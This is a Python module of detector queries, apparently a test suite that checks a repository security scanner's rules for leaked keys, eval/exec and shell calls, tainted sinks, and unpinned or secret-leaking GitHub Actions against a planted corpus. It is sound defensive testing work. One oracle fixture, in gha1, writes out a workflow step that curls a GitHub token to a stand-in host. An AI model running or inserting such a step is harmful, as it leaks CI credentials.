"""Detector queries over the planted corpus."""

from __future__ import annotations

import uuid

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from reposieve import corpus, fixed
from reposieve import oracle as o
from reposieve.catalog import query
from reposieve.functions import hosts, text
from reposieve.operators import finding as f
from reposieve.operators import entropy, pyfacts, secrets, taint, workflows
from reposieve.plans.scan import Detector, ScanConfig, errors_of, findings_of, scan, scan_files
from reposieve.policy import Policy
from reposieve.session import shared_folder
from reposieve.streaming import incremental

PUBLIC = ["owner", "name", "path", "scanner", "rule_id", "severity", "reason", "evidence"]
OPEN = ScanConfig(include=("*",), exclude=())


def found(spark: SparkSession, sf: str, scanner: str, rules: tuple[str, ...], **conf) -> DataFrame:
    """Findings of some rules of one scanner; the other scanners are not planned."""
    config = ScanConfig(enabled=(scanner,), **conf)
    return scan(corpus.files(spark, sf), config).filter(F.col("rule_id").isin(*rules)).select(*PUBLIC)


def _register(name: str, scanner: str, rules: tuple[str, ...], parts: tuple[str, ...], **conf) -> None:
    sel = o.OPEN if conf.get("include") else o.SELECTED
    sql = o.with_(o.FILES, sel) + "\nUNION ALL\n".join(o.rule(p) for p in parts)
    query(name, sql)(lambda spark, sf: found(spark, sf, scanner, rules, **conf))


for key, rule_id in (
    ("sec1_aws_access_key", "aws_access_key"), ("sec2_aws_secret_key", "aws_secret_key"),
    ("sec3_gh_token", "gh_token"), ("sec4_generic_api_key", "generic_api_key"),
    ("sec5_password_inline", "password_inline"),
):
    _register(key, "secrets", (rule_id,), (rule_id,))

_register(
    "sec6_light_paths", "secrets", tuple(r[0] for r in fixed.SECRET_RULES),
    tuple(r[0] for r in o.SECRETS), include=("*",), exclude=(),
)
_register("ent7_high_entropy_candidate", "entropy_secrets", (entropy.RULE,), ("entropy",))
_register("ent1_path_gate", "entropy_secrets", (entropy.RULE,), ("entropy",), include=("*",), exclude=())
_register("sta1_py_eval_exec", "static_risk", ("py_eval", "py_exec"), ("static.py_eval",))
_register("sta2_shell_true", "static_risk", ("py_subprocess_shell_true",), ("static.shell",))
_register("sta3_text_eval_call", "static_risk", ("text_eval_call",), ("text_eval_call",))
_register("sta4_node_exec_call", "static_risk", ("node_exec_call",), ("node_exec_call",))
_register("tnt3_code_runner", "taint_risk", ("py_eval", "py_exec"), ("taint.py_eval",))
_register("tnt4_shell_tainted", "taint_risk", ("py_subprocess_shell_tainted",), ("taint.shell",))
_register("tnt5_subprocess_tainted", "taint_risk", ("py_subprocess_tainted",), ("taint.subprocess",))
_register("tnt6_file_op_tainted", "taint_risk", ("py_file_op_tainted",), ("taint.file",))
_register("tnt7_http_url_tainted", "taint_risk", ("py_http_url_tainted",), ("taint.url",))
_register("tnt8_http_private_target", "taint_risk", ("py_http_private_target",), ("taint.private",))
_register("tnt9_http_off_allowlist", "taint_risk", ("py_http_off_allowlist",), ("taint.domain",))
_register("gha2_uses_not_sha", "github_actions", ("gha_uses_not_sha",), ("ci.sha",),
          policy=Policy(require_sha_pin=True))
_register("gha3_uses_floating", "github_actions", ("gha_uses_floating",), ("ci.floating",))
_register("gha4_uses_unpinned", "github_actions", ("gha_uses_unpinned",), ("ci.unpinned",))
_register("gha5_secrets_exfil", "github_actions", ("gha_secrets_exfil",), ("ci.exfil",))
_register("yar1_high_entropy_token", "yara", ("HighEntropyTokenLike",), ("yara.token",))
_register("yar2_suspicious_exec", "yara", ("Suspicious_Python_Exec",), ("yara.exec",))
_register("yar3_path_gate", "yara", ("HighEntropyTokenLike", "Suspicious_Python_Exec"),
          ("yara.token", "yara.exec"), include=("*",), exclude=())


@query("sec7_secret_spans", o.with_(o.FILES, "sel AS (SELECT * FROM files)") + " UNION ALL ".join(
    f"""SELECT owner, name, path, {o.lit(r[0])} AS rule_id, s AS start_pos, s + length(tok) AS end_pos
        FROM ({o.spans(r[3])})""" for r in o.SECRETS))
def sec7(spark, sf):
    spans = secrets.secret_spans(corpus.files(spark, sf))
    return spans.select(
        "owner", "name", "path", "rule_id", F.col("start").cast("bigint").alias("start_pos"),
        F.col("end").cast("bigint").alias("end_pos"),
    )


@query("sec8_masked_evidence", o.with_(o.FILES, o.SELECTED) + f"""
SELECT path, rule_id, evidence, count(*) AS n FROM ({" UNION ALL ".join(o.rule(r[0]) for r in o.SECRETS)})
GROUP BY ALL""")
def sec8(spark, sf):
    hits = scan(corpus.files(spark, sf), ScanConfig(enabled=("secrets",)))
    return hits.groupBy("path", "rule_id", "evidence").agg(F.count(F.lit(1)).alias("n"))


@query("sec9_with_entropy_once", o.with_(o.FILES, o.SELECTED) + f"""
SELECT scanner, rule_id, severity, count(*) AS n
FROM ({" UNION ALL ".join(o.rule(r) for r in (*(s[0] for s in o.SECRETS), "entropy"))}) GROUP BY ALL""")
def sec9(spark, sf):
    hits = scan(corpus.files(spark, sf), ScanConfig(enabled=("secrets", "entropy_secrets")))
    return hits.groupBy("scanner", "rule_id", "severity").agg(F.count(F.lit(1)).alias("n"))


def tokens(spark, sf) -> DataFrame:
    """Candidate tokens of every corpus file, one row each."""
    files = corpus.files(spark, sf)
    toks = F.regexp_extract_all("content", F.lit(f"{fixed.TOKEN_CLASS}{{{fixed.TOKEN_MIN_RUN},}}"), F.lit(0))
    flat = files.select("path", F.posexplode_outer(toks).alias("i", "tok"))
    return flat.filter(F.col("tok").isNotNull())


def _tok(cols: str, where: str = "") -> str:
    return o.with_(o.FILES) + f"""SELECT path, CAST(i AS BIGINT) - 1 AS i, {cols} FROM (
      SELECT path, unnest(range(1, len(t) + 1)) AS i, unnest(t) AS tok
      FROM (SELECT path, regexp_extract_all(content, {o.lit(o.TOKENS)}) AS t FROM files)) {where}"""


def _i():
    return F.col("i").cast("bigint").alias("i")


@query("ent2_candidate_tokens", _tok("md5(tok) AS tok_md5, length(tok) AS n"))
def ent2(spark, sf):
    return tokens(spark, sf).select(
        "path", _i(), F.md5(F.col("tok").cast("binary")).alias("tok_md5"),
        F.length("tok").cast("bigint").alias("n"),
    )


@query("ent3_guardrails", _tok("md5(tok) AS tok_md5", f"WHERE {o.GUARDED}"))
def ent3(spark, sf):
    low = F.lower("tok")
    safe = F.exists(F.array(*map(F.lit, fixed.SAFE_PREFIXES)), lambda p: F.startswith(low, p))
    t = F.col("tok")
    kept = tokens(spark, sf).filter(
        (F.length(t) <= fixed.TOKEN_MAX_LEN) & ~safe & ~t.rlike(fixed.UUID_SHAPE) & ~t.rlike(fixed.HEX_SHAPE)
    )
    return kept.select("path", _i(), F.md5(t.cast("binary")).alias("tok_md5"))


@query("ent4_char_classes", _tok(f"CAST({o.CLASSES} AS BIGINT) AS classes"))
def ent4(spark, sf):
    return tokens(spark, sf).select("path", _i(), text.char_classes(F.col("tok")).cast("bigint").alias("classes"))


@query("ent5_shannon_entropy", _tok(f"round({o.ENTROPY_BITS}, 6) AS bits"))
def ent5(spark, sf):
    return tokens(spark, sf).select("path", _i(), F.round(text.shannon_entropy(F.col("tok")), 6).alias("bits"))


@query("ent6_context_window", o.with_(o.FILES, "sel AS (SELECT * FROM files)") + f"""
SELECT path, s AS start_pos, regexp_matches(near, {o.lit(o.WORDS)}) AS words,
       regexp_matches(near, {o.lit(o.ASSIGN)}) AS assigned, length(near) AS n
FROM (SELECT *, substr(content, greatest(s - 80, 0) + 1, s + length(tok) + 80 - greatest(s - 80, 0)) AS near
      FROM ({o.spans(o.RUN40)}))""")
def ent6(spark, sf):
    content = F.col("content")

    def of(sp):
        toks = F.arrays_zip(sp["toks"].alias("t"), text.span_starts(sp).alias("at"))
        return F.transform(toks, lambda x, i: F.struct(
            x["at"].cast("bigint").alias("start_pos"),
            entropy.char_window(sp, x["t"], i, fixed.CONTEXT_RADIUS, fixed.TOKEN_MIN_LEN).alias("near"),
        ))

    found_ = text.bind(text.spans(content, entropy.token_regex()), of)
    flat = corpus.files(spark, sf).select("path", F.inline_outer(F.when(entropy.has_run(content), found_)))
    near = F.col("near")
    return flat.filter(near.isNotNull()).select(
        "path", "start_pos", near.rlike(fixed.CONTEXT_WORDS).alias("words"),
        near.rlike(fixed.ASSIGNMENT).alias("assigned"), F.length(near).cast("bigint").alias("n"),
    )


@query("ent8_line_window", o.with_(o.FILES, o.SELECTED) + o.entropy_line_rule())
def ent8(spark, sf):
    strict = {"window": "line", "radius": fixed.LINE_RADIUS}
    return found(spark, sf, "entropy_secrets", (entropy.RULE,), entropy=strict)


@query("sta5_unparsable_python", o.with_(o.FILES) + """
SELECT path, CAST(0 AS BIGINT) AS findings, 2 AS errors FROM files WHERE ends_with(path, '.py')""")
def sta5(spark, sf):
    """Every Python file made unparsable: no findings of the parsed rules, but errors."""
    files = corpus.files(spark, sf).filter(F.col("path").endswith(".py"))
    bad = files.withColumn("content", F.concat(F.lit("def open(:\n"), "content"))
    hits = scan_files(bad, ScanConfig(enabled=("static_risk", "taint_risk"), exclude=()))
    return hits.select("path", F.array_size("findings").cast("bigint").alias("findings"), F.array_size("errors").alias("errors"))


def python_facts(spark, sf) -> DataFrame:
    files = corpus.files(spark, sf).filter(F.col("path").endswith(".py"))
    worth = F.when(pyfacts.worth_parsing(F.col("content")), F.col("content"))
    return files.select("path", "k", worth.alias("src")).withColumn("f", pyfacts.py_facts("src")["facts"])


@query("tnt1_parameters", o.with_(o.FILES) + """
SELECT path, CASE k WHEN 7 THEN 'a' WHEN 8 THEN 'c' WHEN 9 THEN 'c' WHEN 10 THEN 'p' ELSE 'u' END AS param
FROM files WHERE k IN (7, 8, 9, 10, 11)""")
def tnt1(spark, sf):
    params = F.filter("f", lambda x: x["kind"] == "param")
    flat = python_facts(spark, sf).select("path", F.inline_outer(params))
    return flat.filter(F.col("name").isNotNull()).select("path", F.col("name").alias("param"))


@query("tnt2_taint_flow", o.with_(o.FILES) + """
SELECT path, CASE k WHEN 7 THEN 'a' WHEN 8 THEN 'c,e' WHEN 9 THEN 'c' WHEN 10 THEN 'p,q' ELSE 'u' END AS tainted
FROM files WHERE k IN (7, 8, 9, 10, 11)""")
def tnt2(spark, sf):
    names = F.array_join(F.array_sort(F.map_keys(taint.taint_times(F.col("f")))), ",")
    flow = python_facts(spark, sf).select("path", names.alias("tainted"))
    return flow.filter(F.col("tainted") != "")


def literal_hosts(spark, sf) -> DataFrame:
    """Hosts of literal URLs in Python files, and hosts of all pages."""
    calls = F.filter("f", lambda x: (x["kind"] == "call") & x["lit"].isNotNull())
    flat = python_facts(spark, sf).select(F.inline_outer(calls))
    in_code = flat.select(hosts.url_host(F.col("lit")).alias("host"))
    in_pages = corpus.table(spark, sf, "pages").select(hosts.url_host(F.col("url")).alias("host"))
    return in_code.unionByName(in_pages).filter(F.col("host").isNotNull())


_HOSTS = o.FILES + """, hosts AS (
  SELECT concat('10.0.0.', CAST(doc_id % 250 AS VARCHAR)) AS host FROM files WHERE k = 11
  UNION ALL SELECT concat('h', CAST(doc_id AS VARCHAR), '.example.com') FROM files WHERE k = 11
  UNION ALL SELECT 'api.github.com' FROM files WHERE k = 11
  UNION ALL SELECT regexp_extract(url, 'https?://([^/\\s:]+)', 1) FROM pages
            WHERE regexp_matches(url, 'https?://([^/\\s:]+)'))"""


def domain_table(spark, sf) -> DataFrame:
    """Allowed domains: the policy's, and one derived from each supplier."""
    made = corpus.table(spark, sf, "supplier").select(
        F.concat(F.lit("h"), F.col("s_suppkey").cast("string"), F.lit(".example")).alias("domain")
    )
    allowed = spark.createDataFrame([(d,) for d in Policy().allowed_domains], "domain string")
    return made.unionByName(allowed)


@query("jn6_off_allowlist", o.with_(_HOSTS, """doms AS (
  SELECT concat('h', CAST(s_suppkey AS VARCHAR), '.example') AS domain FROM supplier
  UNION ALL SELECT unnest(['api.github.com', 'slack.com']))""") + """
SELECT host, count(*) AS n FROM hosts h
WHERE NOT EXISTS (SELECT 1 FROM doms d WHERE contains(h.host, d.domain)) GROUP BY ALL""")
def jn6(spark, sf):
    off = taint.off_allowlist(literal_hosts(spark, sf), domain_table(spark, sf))
    return off.groupBy("host").agg(F.count(F.lit(1)).alias("n"))


def network_table(spark, sf) -> DataFrame:
    """Networks: the private ones, and a /30 derived from each supplier."""
    made = corpus.table(spark, sf, "supplier").select(
        F.concat(F.lit("11."), (F.col("s_suppkey") % 200).cast("string"), F.lit(".4.8")).alias("network"),
        F.lit(30).alias("bits"),
    )
    return made.unionByName(spark.createDataFrame(list(fixed.PRIVATE_NETWORKS), "network string, bits int"))


def address_table(spark, sf) -> DataFrame:
    """An address per event, spread over public, private and supplier networks."""
    e = F.col("event_id")
    quad = F.concat_ws(".", *(x.cast("string") for x in (e % 223, (e * 7) % 256, (e * 13) % 8, (e * 31) % 16)))
    near = F.concat(F.lit("11."), (F.col("user_id") % 256).cast("string"), F.lit(".4."), (e % 16).cast("string"))
    events = corpus.table(spark, sf, "events")
    return events.select(quad.alias("host")).unionByName(events.select(near.alias("host")))


def _num(c: str) -> str:
    part = lambda i: f"CAST(list_extract(string_split({c}, '.'), {i}) AS BIGINT)"
    return f"((({part(1)} * 256 + {part(2)}) * 256 + {part(3)}) * 256 + {part(4)})"


_NETS = " UNION ALL ".join(f"SELECT '{n}' AS network, {b} AS bits" for n, b in fixed.PRIVATE_NETWORKS)


@query("jn7_in_networks", o.with_("""addr AS (
  SELECT concat_ws('.', event_id % 223, (event_id * 7) % 256, (event_id * 13) % 8, (event_id * 31) % 16) AS host FROM events
  UNION ALL SELECT concat('11.', user_id % 256, '.4.', event_id % 16) FROM events)""", f"""nets AS (
  SELECT concat('11.', s_suppkey % 200, '.4.8') AS network, 30 AS bits FROM supplier UNION ALL {_NETS})""",
  f"""r AS (SELECT DISTINCT {_num('network')} // CAST(pow(2, 32 - bits) AS BIGINT) AS p, bits FROM nets)""",
  f"h AS (SELECT host, {_num('host')} AS ip, count(*) AS n FROM addr GROUP BY ALL)") + """
SELECT host, n FROM h WHERE EXISTS (SELECT 1 FROM r WHERE h.ip // CAST(pow(2, 32 - r.bits) AS BIGINT) = r.p)""")
def jn7(spark, sf):
    hit = taint.in_networks(address_table(spark, sf), network_table(spark, sf))
    return hit.groupBy("host").agg(F.count(F.lit(1)).alias("n"))


@query("jn4_calls_with_sinks", o.with_(o.FILES) + """
SELECT path, sink FROM (SELECT path, CASE k WHEN 8 THEN ['subprocess.run'] WHEN 9 THEN ['subprocess.call']
  WHEN 11 THEN ['requests.get', 'requests.get', 'requests.get', 'requests.post'] ELSE [] END AS s FROM files), unnest(s) AS u(sink)""")
def jn4(spark, sf):
    """Calls that are in a table of sinks. The table has a fixed handful of rows."""
    pairs = [("subprocess", n) for n in fixed.SHELL_CALLS] + [("requests", n) for n in fixed.HTTP_CALLS]
    sinks = spark.createDataFrame(pairs + list(fixed.FILE_CALLS), "mod string, fn string")
    calls = F.filter("f", lambda x: (x["kind"] == "call") & x["mod"].isNotNull())
    flat = python_facts(spark, sf).select("path", F.inline_outer(calls)).filter(F.col("fn").isNotNull())
    hit = flat.join(F.broadcast(sinks), ["mod", "fn"], "left_semi")
    return hit.select("path", F.concat("mod", F.lit("."), "fn").alias("sink"))


@query("jn5_tainted_arguments", o.with_(o.FILES) + """
SELECT path, CASE k WHEN 8 THEN 'run' WHEN 9 THEN 'call' WHEN 10 THEN 'open' WHEN 7 THEN 'eval' ELSE 'get' END AS fn,
       CASE k WHEN 8 THEN 'e' WHEN 9 THEN 'c' WHEN 10 THEN 'q' WHEN 7 THEN 'a' ELSE 'u' END AS arg
FROM files WHERE k IN (7, 8, 9, 10, 11)""")
def jn5(spark, sf):
    """Arguments joined with the time their name became tainted, kept where that is earlier."""
    facts = python_facts(spark, sf).select("path", "f")
    calls = facts.select("path", F.inline_outer(F.filter("f", lambda x: x["kind"] == "call"))).select(
        "path", "fn", "seq", F.explode_outer("args").alias("arg")
    ).filter(F.col("arg").isNotNull())
    times = facts.select("path", F.explode_outer(taint.taint_times(F.col("f"))).alias("arg", "t"))
    hit = calls.join(times.filter(F.col("arg").isNotNull()), ["path", "arg"]).filter(F.col("t") < F.col("seq"))
    return hit.select("path", "fn", "arg")


@query("gha1_workflow_steps", o.with_(o.FILES) + """
SELECT path, CAST(i - 1 AS BIGINT) AS step, 'b' AS job, uses, run FROM (
  SELECT path, unnest(range(1, 6)) AS i,
    unnest(['actions/checkout@main', './local', 'actions/setup@v4', concat('a/b@', substr(sha256(CAST(doc_id AS VARCHAR)), 1, 40)), NULL]) AS uses,
    unnest([NULL, NULL, NULL, NULL, 'curl -H $GITHUB_TOKEN https://x.example']) AS run
  FROM files WHERE k = 13)""")
def gha1(spark, sf):
    files = corpus.files(spark, sf).filter(F.col("path").startswith(fixed.WORKFLOW_DIR))
    steps = files.select("path", workflows.workflow_steps("content").alias("w"))
    flat = steps.select("path", F.inline_outer("w.steps")).filter(F.col("step").isNotNull())
    return flat.select("path", F.col("step").cast("bigint").alias("step"), "job", "uses", "run")


@query("stu1_all_detectors", o.SCAN + f"SELECT {o.COLUMNS} FROM fnd")
def stu1(spark, sf):
    return scan(corpus.files(spark, sf)).select(*PUBLIC)


@query("udf1_custom_detector", o.with_(o.FILES, o.SELECTED) + f"""
SELECT owner, name, path, 'todo' AS scanner, 'todo_marker' AS rule_id, 'low' AS severity
FROM sel WHERE {o.CODE} AND contains(lower(content), 'the')""")
def udf1(spark, sf):
    """A detector of the caller next to a disabled registry."""
    marker = Detector(lambda i, _c: [f.once(
        F.contains(i.lower, F.lit("the")), f.finding("todo", "todo_marker", "low", "Marker in source.")
    )])
    hits = scan_files(corpus.files(spark, sf), ScanConfig(enabled=()), {"todo": marker})
    return findings_of(hits).select("owner", "name", "path", "scanner", "rule_id", "severity")


@query("udf2_fact_rows", o.with_(o.FILES) + """
SELECT kind, fn, count(*) AS n FROM (
  SELECT 'call' AS kind, CASE k WHEN 7 THEN ['eval'] WHEN 8 THEN ['run'] WHEN 9 THEN ['call'] WHEN 10 THEN ['open']
      WHEN 11 THEN ['get', 'get', 'post', 'get'] ELSE [] END AS fns FROM files), unnest(fns) AS u(fn) GROUP BY ALL
UNION ALL SELECT 'param', NULL, count(*) FROM files WHERE k IN (7, 8, 9, 10, 11)
UNION ALL SELECT 'copy', NULL, count(*) FROM files WHERE k IN (8, 10)""")
def udf2(spark, sf):
    flat = python_facts(spark, sf).select(F.inline_outer("f")).filter(F.col("kind").isNotNull())
    return flat.groupBy("kind", "fn").agg(F.count(F.lit(1)).alias("n"))


@query("udf3_extractor_errors", o.with_(o.FILES, o.SELECTED) + """
SELECT owner, name, path, s AS scanner FROM sel, unnest(['static_risk', 'taint_risk']) AS u(s)
WHERE k = 8
UNION ALL SELECT owner, name, path, 'github_actions' FROM sel WHERE k = 13""")
def udf3(spark, sf):
    """Files made unreadable for their extractor lose its findings and show up as errors."""
    broken = F.when(F.col("k") == 8, F.concat(F.lit("def (:\n"), "content")).when(
        F.col("k") == 13, F.concat("content", F.lit("    - not a mapping\n"))
    )
    files = corpus.files(spark, sf)
    bad = files.withColumn("content", F.coalesce(broken, "content"))
    return errors_of(scan_files(bad)).select("owner", "name", "path", "scanner")


def _landed(spark: SparkSession, sf: str) -> tuple[str, str]:
    """Corpus files landed as Parquet, and a work folder, in the shared folder."""
    work = f"{shared_folder(spark)}/stream-{uuid.uuid4().hex}"
    corpus.files(spark, sf).select("owner", "name", "path", "length", "content").write.parquet(f"{work}/files")
    return f"{work}/files", work


@query("st1_incremental_scan", o.SCAN + "SELECT owner, name, path, rule_id, count(*) AS n FROM fnd GROUP BY ALL")
def st1(spark, sf):
    """Two runs over a growing folder: the second one sees only what is new (here nothing)."""
    src, work = _landed(spark, sf)
    for _ in range(2):
        stream = incremental.stream_files(spark, src)
        incremental.scan_stream(stream, f"{work}/log", f"{work}/ck").awaitTermination()
    log = spark.read.schema(", ".join(f"{c} string" for c in PUBLIC)).json(f"{work}/log")
    return log.groupBy("owner", "name", "path", "rule_id").agg(F.count(F.lit(1)).alias("n"))


@query("st2_skip_scanned", o.with_(o.FILES, o.SELECTED, o.FINDINGS, o.REPOS) + """
SELECT owner, name, count(*) AS n FROM fnd
WHERE (owner, name) NOT IN (SELECT (owner, name) FROM repos WHERE stargazers_count >= 50) GROUP BY ALL""")
def st2(spark, sf):
    """Repositories of an earlier run are left out of the stream."""
    src, work = _landed(spark, sf)
    seen = corpus.repos(spark, sf).filter(F.col("stargazers_count") >= 50)
    stream = incremental.unseen(incremental.stream_files(spark, src), seen)
    incremental.scan_stream(stream, f"{work}/log", f"{work}/ck").awaitTermination()
    log = spark.read.schema(", ".join(f"{c} string" for c in PUBLIC)).json(f"{work}/log")
    return log.groupBy("owner", "name").agg(F.count(F.lit(1)).alias("n"))


@query("st3_running_rollup", o.SCAN + """
SELECT owner, name, count(*) AS findings, count(*) FILTER (severity IN ('high', 'critical')) AS severe
FROM fnd GROUP BY ALL""")
def st3(spark, sf):
    src, work = _landed(spark, sf)
    hits = scan(incremental.stream_files(spark, src))
    incremental.rollup_stream(hits, f"{work}/rollup", f"{work}/ck").awaitTermination()
    return incremental.read_rollup(spark, f"{work}/rollup")
